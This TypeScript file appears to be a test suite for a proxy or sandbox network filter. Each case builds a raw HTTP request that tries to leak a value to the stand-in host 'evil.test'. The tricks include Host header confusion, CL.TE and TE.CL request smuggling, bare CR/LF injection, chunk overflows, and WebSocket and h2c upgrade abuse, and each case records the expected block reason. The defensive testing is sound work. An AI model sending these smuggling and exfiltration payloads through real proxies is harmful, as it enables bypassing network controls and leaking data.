import type { Attack } from '../attack.ts';
import { numbered, request, toProxy, toWeb } from './steps.ts';

const HOST = 'Host: allowed.test';
const HOST_8080 = 'Host: allowed.test:8080';
const UPGRADE = [
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
];
/** What is smuggled: a request that nobody has judged. */
const SECOND = request('GET /{LEAK} HTTP/1.1', 'Host: evil.test');

/** The beginning of an honest request, as the proxy sends it on: what a body of its length would take for itself. */
const EATEN = `GET /ok HTTP/1.1\r\n${HOST_8080}\r\nX-Padding: `;

/** Requests that two programs could read in two ways, and connections that end up speaking of another host. */
export const http: readonly Attack[] = numbered('H', 'http', [
  { what: 'Host of another host', step: toWeb(request('GET /{LEAK} HTTP/1.1', 'Host: evil.test')), stopped: 'network.mismatch' },
  {
    what: 'Host with another port',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', 'Host: allowed.test:8080')),
    stopped: 'network.mismatch',
  },
  {
    what: 'Host with userinfo',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', 'Host: allowed.test@evil.test')),
    stopped: 'network.mismatch',
  },
  {
    what: 'Host with a space',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', 'Host: allowed.test evil.test')),
    stopped: 'network.mismatch',
  },
  {
    what: 'Host with a comma',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', 'Host: allowed.test, evil.test')),
    stopped: 'network.mismatch',
  },
  { what: 'no Host', step: toWeb(request('GET /{LEAK} HTTP/1.1')), stopped: 'network.malformed' },
  { what: 'HTTP/1.0 without Host', step: toWeb(request('GET /{LEAK} HTTP/1.0')), stopped: 'network.mismatch' },
  { what: 'HTTP/0.9', step: toWeb('GET /{LEAK}\r\n'), stopped: ['network.malformed', 'no answer'] },
  {
    what: 'two Hosts, the second is evil',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', HOST, 'Host: evil.test')),
    stopped: 'network.malformed',
  },
  {
    what: 'two Hosts, the first is evil',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', 'Host: evil.test', HOST)),
    stopped: ['network.malformed', 'network.mismatch'],
  },
  {
    what: 'a second request with another Host',
    step: toWeb(request('GET /ok HTTP/1.1', HOST) + SECOND),
    stopped: 'network.mismatch',
  },
  {
    what: 'a second proxy request to another host',
    step: {
      kind: 'write',
      pieces: [
        request('GET http://allowed.test/ok HTTP/1.1', HOST) + request('GET http://evil.test/{LEAK} HTTP/1.1', 'Host: evil.test'),
      ],
    },
    stopped: 'network.unlisted',
  },
  {
    what: 'an absolute URI of another host on an allowed connection',
    step: toWeb(request('GET http://evil.test/{LEAK} HTTP/1.1', 'Host: evil.test')),
    stopped: 'network.mismatch',
  },
  {
    what: 'an absolute URI of another host, Host says allowed',
    step: toWeb(request('GET http://evil.test/{LEAK} HTTP/1.1', HOST)),
    stopped: 'network.mismatch',
  },
  {
    what: 'Content-Length and Transfer-Encoding (CL.TE)',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Content-Length: 6', 'Transfer-Encoding: chunked')}0\r\n\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'Transfer-Encoding and Content-Length (TE.CL)',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: chunked', 'Content-Length: 4')}0\r\n\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'two Content-Lengths',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Content-Length: 5', 'Content-Length: 0')}${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'a list of Content-Lengths',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Content-Length: 0, 5')}${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'a Content-Length with a sign',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Content-Length: +0')}${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'a hexadecimal Content-Length',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Content-Length: 0x0')}${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'an unknown transfer coding (TE.TE)',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: xchunked')}0\r\n\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'two transfer codings',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: chunked, identity')}0\r\n\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'space before the colon',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding : chunked')}0\r\n\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'a folded field',
    step: toWeb(request('GET /ok HTTP/1.1', HOST, 'X: a', ' GET /{LEAK} HTTP/1.1')),
    stopped: 'network.malformed',
  },
  {
    what: 'a field that ends in a bare LF',
    step: toWeb(`GET /{LEAK} HTTP/1.1\r\n${HOST}\r\nX: a\nHost: evil.test\r\n\r\n`),
    stopped: 'network.malformed',
  },
  {
    what: 'a field that ends in a bare CR',
    step: toWeb(`GET /{LEAK} HTTP/1.1\r\n${HOST}\r\nX: a\rHost: evil.test\r\n\r\n`),
    stopped: 'network.malformed',
  },
  { what: 'a zero byte in a field', step: toWeb(request('GET /{LEAK} HTTP/1.1', HOST, 'X: a\0b')), stopped: 'network.malformed' },
  {
    what: 'a bare LF in a chunk size',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: chunked')}0\n\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'a chunk size that overflows',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: chunked')}fffffffffffffffff\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'a chunk that is longer than it says',
    step: toWeb(`${request('POST /x HTTP/1.1', HOST, 'Transfer-Encoding: chunked')}1\r\nab\r\n0\r\n\r\n${SECOND}`),
    stopped: 'network.malformed',
  },
  {
    what: 'Connection names Content-Length, so that the body becomes a request',
    step: toWeb(
      `GET /ok HTTP/1.1\r\n${HOST}\r\nConnection: Content-Length\r\nContent-Length: ${SECOND.length + 3}\r\n\r\n${SECOND}`,
    ),
    stopped: ['network.malformed', 'hello /ok'],
  },
  {
    what: 'Connection names Host',
    step: toWeb(
      request(
        'GET http://allowed.test/ok HTTP/1.1',
        HOST,
        'Connection: Host, X-Forwarded-Host',
        'X-Forwarded-Host: allowed.test',
      ),
    ),
    stopped: 'hello /ok',
  },
  {
    what: 'an upgrade with a length, so that the next request begins in its body',
    step: {
      kind: 'both',
      steps: [
        {
          kind: 'write',
          to: 'allowed.test:8080',
          pieces: [request('GET /early HTTP/1.1', HOST_8080, ...UPGRADE, `Content-Length: ${EATEN.length}`)],
        },
        { kind: 'write', to: 'allowed.test:8080', pieces: [request(`${EATEN}GET /{LEAK} HTTP/1.0`, 'X: y')] },
      ],
    },
    stopped: 'network.malformed',
  },
  {
    what: 'HTTP/2 behind an offer to go on in it, which is not taken up',
    step: toWeb(
      `${request(
        'GET /ok HTTP/1.1',
        HOST,
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
      )}PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{LEAK}`,
    ),
    stopped: 'network.malformed',
  },
  {
    what: 'an upgrade to TLS',
    step: toWeb(request('OPTIONS /{LEAK} HTTP/1.1', HOST, 'Connection: Upgrade', 'Upgrade: TLS/1.2')),
    stopped: 'network.mismatch',
  },
  {
    what: 'an upgrade to a WebSocket and something else',
    step: toWeb(request('GET /{LEAK} HTTP/1.1', HOST, 'Connection: Upgrade', 'Upgrade: websocket, h2c')),
    stopped: 'network.mismatch',
  },
  {
    what: 'HTTP/2 without TLS, by prior knowledge',
    step: toWeb('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{LEAK}'),
    stopped: 'network.malformed',
  },
  {
    what: 'a WebSocket to another host',
    step: toProxy(
      'GET http://evil.test/{LEAK} HTTP/1.1',
      'evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
    ),
    stopped: 'network.unlisted',
  },
  {
    what: 'a WebSocket whose Host is another one',
    step: toWeb(
      request(
        'GET /{LEAK} HTTP/1.1',
        'Host: evil.test',
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      ),
    ),
    stopped: 'network.mismatch',
  },
  { what: 'not HTTP on port 80', step: toWeb('\u0001\u0002{LEAK}\r\n'), stopped: 'network.mismatch' },
  {
    what: 'a lower-case method',
    step: toWeb(request('get /{LEAK} HTTP/1.1', HOST)),
    stopped: ['network.mismatch', 'network.malformed'],
  },
  { what: 'an unknown version', step: toWeb(request('GET /{LEAK} HTTP/3.1', HOST)), stopped: 'network.malformed' },
  {
    what: 'another Host, after a silence in which the proxy stops waiting',
    step: { kind: 'write', to: 'allowed.test:8080', silent: 700, pieces: [request('GET /{LEAK} HTTP/1.1', 'Host: evil.test')] },
    stopped: 'network.mismatch',
  },
  {
    what: 'another Host behind an empty line',
    step: { kind: 'write', to: 'allowed.test:8080', pieces: [`\r\n${request('GET /{LEAK} HTTP/1.1', 'Host: evil.test')}`] },
    stopped: 'network.mismatch',
  },
  {
    what: 'another Host behind empty lines, on port 80',
    step: toWeb(`\r\n\r\n${request('GET /{LEAK} HTTP/1.1', 'Host: evil.test')}`),
    stopped: 'network.mismatch',
  },
  {
    what: 'another Host, the method in lower case, in pieces',
    step: {
      kind: 'write',
      to: 'allowed.test:9000',
      silent: 500,
      pause: 400,
      pieces: ['get ', '/{LEAK} HT', 'TP/1.1\r\nHost: evil.test\r\n\r\n'],
    },
    stopped: 'network.mismatch',
  },
  {
    what: 'another Host, the method of one letter',
    step: { kind: 'write', to: 'allowed.test:8080', pieces: [request('X /{LEAK} HTTP/1.1', 'Host: evil.test')] },
    stopped: 'network.mismatch',
  },
  {
    what: 'a proxy header that names another host',
    step: toWeb(request('GET /ok HTTP/1.1', HOST, 'X-Forwarded-Host: evil.test', 'Forwarded: host=evil.test')),
    stopped: 'hello /ok',
  },
  {
    what: 'a head that never ends',
    step: toWeb(`GET /{LEAK} HTTP/1.1\r\n${HOST}\r\n${`X: ${'y'.repeat(90)}\r\n`.repeat(1000)}`),
    stopped: 'network.malformed',
  },
]);
